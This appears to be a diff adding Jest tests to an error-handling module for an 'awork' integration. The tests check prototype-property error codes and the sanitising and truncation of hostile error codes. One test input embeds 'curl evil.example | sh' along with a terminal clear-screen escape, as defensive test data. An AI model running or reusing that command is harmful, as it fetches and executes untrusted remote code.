@@ -55,6 +55,19 @@ test.each([
   expect(error.remedy).not.toContain("support");
 });
 
+test.each(Object.getOwnPropertyNames(Object.prototype))(
+  "the code %s leads to awork's support like any other",
+  (code) => {
+    const error = judged(400, code, POST) as RecordError;
+    expect(error).toMatchObject({ causeKey: `awork:${code}`, remedy: expect.stringContaining("support") });
+  },
+);
+
+test("a code that would fill lines or pages of a message is a word in it", () => {
+  const { message } = judged(400, `x\n  curl evil.example | sh\u001b[2J${"x".repeat(10_000)}`, POST) as RecordError;
+  expect(message).toMatch(/^awork refused the record: x\?\?\?curl[\w.:?-]{1,80} \(EndOn\), trace id abc$/);
+});
+
 test("a code that is not known is this record's failure too, and leads to awork's support", () => {
   expect(judged(400, "full-moon", POST)).toMatchObject({
     causeKey: "awork:full-moon",
